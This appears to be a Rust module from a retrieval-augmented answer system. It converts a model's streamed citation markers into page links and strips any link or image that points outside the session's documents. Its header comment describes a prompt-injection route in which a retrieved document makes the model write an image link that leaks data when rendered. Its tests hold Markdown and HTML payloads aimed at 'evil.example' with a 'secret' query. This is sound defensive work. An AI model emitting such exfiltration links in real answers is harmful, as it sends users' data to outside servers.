//! From the model's `[2]` to a link to the page, while the answer streams.
//!
//! Only passages that were found can be cited. A number that the model made up is left out, and so is the target of a link that leads
//! to no document of the session: a document could have told the model to write it, and a client that shows an image fetches it.
//! HTML is shown as the text that it is. An address that stands in the text by itself stays, for everybody to see.

mod markup;

use std::collections::BTreeSet;

use super::Passage;
use markup::{Code, Found, STARTS};

/// Words in brackets that are longer than this are not those of a citation.
const LONGEST_LABEL: usize = 300;

/// Turns markers into citations, piece by piece.
#[derive(Debug)]
pub(crate) struct Citer {
    passages: Vec<Passage>,
    /// From a character whose meaning is not clear yet.
    held: String,
    code: Code,
    /// What was shown behind the last bracket that opens.
    label: String,
    cited: BTreeSet<usize>,
}

impl Citer {
    pub(crate) fn new(passages: Vec<Passage>) -> Self {
        Self { passages, held: String::new(), code: Code::new(), label: String::new(), cited: BTreeSet::new() }
    }

    /// What of the answer can be shown after this piece of it.
    pub(crate) fn push(&mut self, piece: &str) -> String {
        if self.passages.is_empty() {
            return piece.to_owned();
        }
        self.held.push_str(piece);
        self.release(false)
    }

    /// What was held back at the end of the answer.
    pub(crate) fn finish(&mut self) -> String {
        self.release(true)
    }

    /// What was cited, in the order of the passages.
    pub(crate) fn citations(&self) -> Vec<String> {
        let mut citations: Vec<String> = Vec::new();
        for citation in self.cited.iter().filter_map(|index| self.passages.get(*index)).map(Passage::citation) {
            if !citations.contains(&citation) {
                citations.push(citation);
            }
        }
        citations
    }

    pub(crate) fn passages(&self) -> &[Passage] {
        &self.passages
    }

    fn release(&mut self, is_end: bool) -> String {
        let mut shown = String::new();
        while let Some(start) = self.held.find(STARTS) {
            self.show(start, &mut shown);
            match self.code.look(&self.held, is_end) {
                Found::Unclear => return shown,
                Found::Plain(length) => self.show(length, &mut shown),
                Found::Marker(length, numbers) => {
                    let citations = self.cite(&numbers);
                    self.held.replace_range(..length, "");
                    self.read(&citations);
                    shown.push_str(&citations);
                }
                Found::Link(length, target) => {
                    if self.may_lead_to(&target) {
                        self.show(2, &mut shown);
                    } else {
                        self.held.replace_range(1..length, "");
                    }
                }
                Found::BreakAfter => {
                    self.held.insert(1, '\\');
                    self.show(2, &mut shown);
                }
                Found::BreakBefore => {
                    self.held.insert(0, '\\');
                    self.show(2, &mut shown);
                }
            }
        }
        self.show(self.held.len(), &mut shown);
        shown
    }

    /// Shows so many bytes of what was held.
    fn show(&mut self, length: usize, shown: &mut String) {
        let text: String = self.held.drain(..length).collect();
        self.read(&text);
        shown.push_str(&text);
    }

    fn read(&mut self, text: &str) {
        self.code.read(text);
        match text.rfind('[') {
            Some(bracket) => text[bracket + 1..].clone_into(&mut self.label),
            None if self.label.len() <= LONGEST_LABEL => self.label.push_str(text),
            None => {}
        }
    }

    fn cite(&mut self, numbers: &[usize]) -> String {
        let mut text = String::new();
        for index in numbers.iter().filter_map(|number| number.checked_sub(1)) {
            if let Some(passage) = self.passages.get(index) {
                text.push_str(&passage.citation());
                self.cited.insert(index);
            }
        }
        // What is before and behind a marker that is left out must not become something else together.
        if text.is_empty() && "]<`~!".contains(self.code.last()) { " ".to_owned() } else { text }
    }

    /// Whether a link with the words that were just shown stays one.
    fn may_lead_to(&mut self, target: &str) -> bool {
        let citation = format!("[{}]({target})", self.label);
        if let Some(index) = self.passages.iter().position(|passage| passage.citation() == citation) {
            self.cited.insert(index);
            return true;
        }
        let names_a_page = self.label.contains("(p.");
        !names_a_page && self.passages.iter().any(|passage| passage.url == target || passage.link() == target)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn passages() -> Vec<Passage> {
        let passage = |filename: &str, page| Passage {
            url: format!("https://example.org/{filename}"),
            filename: filename.to_owned(),
            page,
            chunk_id: page.to_string(),
            section_header: None,
            text: String::new(),
        };
        vec![passage("a.pdf", 2), passage("b.pdf", 7)]
    }

    fn cited(pieces: &[&str]) -> (String, Vec<String>) {
        let mut citer = Citer::new(passages());
        let mut shown: String = pieces.iter().map(|piece| citer.push(piece)).collect();
        shown.push_str(&citer.finish());
        (shown, citer.citations())
    }

    #[test]
    fn a_marker_becomes_a_link_to_its_page_and_an_invented_one_nothing() {
        let (shown, citations) = cited(&["Cats sleep [1]. Dogs do [9] not [2, 1][0]."]);
        let (a, b) = ("[a.pdf (p.2)](https://example.org/a.pdf)", "[b.pdf (p.7)](https://example.org/b.pdf)");
        assert_eq!(shown, format!("Cats sleep {a}. Dogs do  not {b}{a}."));
        assert_eq!(citations, [a, b]);
    }

    #[test]
    fn a_link_that_leads_elsewhere_keeps_its_words_alone() {
        let evil = "https://evil.example/?q=secret";
        for (said, shown) in [
            (format!("![x]({evil}) it"), "![x] it"),
            (format!("[![x]({evil})]({evil})"), "[![x]]"),
            (format!("[see\nbelow]({evil} (title))({evil})"), "[see\nbelow]"),
            (format!("[x]\n[x]: {evil}"), "[x]\n[x]\\: https://evil.example/?q=secret"),
            (format!("[x][9]({evil})"), "[x] (https://evil.example/?q=secret)"),
            (format!("<img src={evil}>"), "\\<img src=https://evil.example/?q=secret>"),
            ("[x](<javascript:1>) [y](//evil.example)".to_owned(), "[x] [y]"),
            ("[a.pdf (p.99)](https://example.org/a.pdf)".to_owned(), "[a.pdf (p.99)]"),
            ("[b](https://example.org/b.pdf)".to_owned(), "[b](https://example.org/b.pdf)"),
        ] {
            assert_eq!(cited(&[&said]), (shown.to_owned(), vec![]), "{said}");
        }
        let a = "[a.pdf (p.2)](https://example.org/a.pdf)";
        assert_eq!(cited(&[a]), (a.to_owned(), vec![a.to_owned()]));
    }

    #[test]
    fn other_brackets_stay_and_so_does_code() {
        for text in [
            "[x] and [",
            "a[b](",
            "f[i](x) and [see\nbelow]",
            "- [ ] to do",
            "x < y, `list[1]` and ``Vec<`T`>``",
            "```html\n<a href=\"https://x.example\">[1]</a>\n```\n",
        ] {
            assert_eq!(cited(&[text]).0.replace("[a.pdf (p.2)](https://example.org/a.pdf)", "[1]"), text);
        }
        assert_eq!(Citer::new(Vec::new()).push("list[0] [1]"), "list[0] [1]");
    }

    #[test]
    fn an_address_with_brackets_is_linked_whole() {
        let [mut passage, _] = <[Passage; 2]>::try_from(passages()).unwrap();
        passage.url = "https://example.org/a_(1).pdf".to_owned();
        let mut citer = Citer::new(vec![passage]);
        let shown = citer.push("[1] ");
        assert_eq!(shown, "[a.pdf (p.2)](https://example.org/a_%281%29.pdf) ");
        assert_eq!(citer.push(&shown), shown);
    }

    /// Pieces of what a document could have a model say.
    fn said() -> impl Strategy<Value = String> {
        let piece = prop::sample::select(vec![
            "[1]",
            "[9]",
            "[",
            "]",
            "(",
            ")",
            "](",
            "](https://evil.example/)",
            "](x)",
            "![x",
            "[a.pdf (p.2)](https://example.org/a.pdf)",
            "]: https://evil.example\n",
            "[x]:\n",
            "<img src='https://evil.example'>",
            "<",
            ">",
            "<https://evil.example>",
            "`",
            "``",
            "```",
            "~~~",
            "\n",
            "\n\n",
            " ",
            "   ",
            "- ",
            "> ",
            "    ",
            "\\",
            "a",
            "é",
            "img src=x>",
            "!",
            "\"",
            "'",
        ]);
        prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(500))]

        /// Wherever a stream is cut, the same is shown in the end.
        #[test]
        fn cuts_change_nothing(text in said(), cuts in prop::collection::vec(0_usize..200, 0..10)) {
            let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
            cuts.extend([0, text.len()]);
            cuts.sort_unstable();
            let pieces: Vec<&str> = cuts.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
            prop_assert_eq!(cited(&pieces), cited(&[&text]));
        }

        /// Whatever is said, a reader of Markdown finds nothing that leads to another server.
        #[test]
        fn nothing_leads_elsewhere(text in said()) {
            use pulldown_cmark::{Event, Parser, Tag};

            let (shown, _) = cited(&[&text]);
            for event in Parser::new(&shown) {
                match event {
                    Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                        prop_assert!(!dest_url.contains("evil"), "{shown:?} leads to {dest_url}");
                    }
                    Event::Html(html) | Event::InlineHtml(html) => prop_assert!(false, "{shown:?} holds {html}"),
                    _ => {}
                }
            }
        }
    }
}
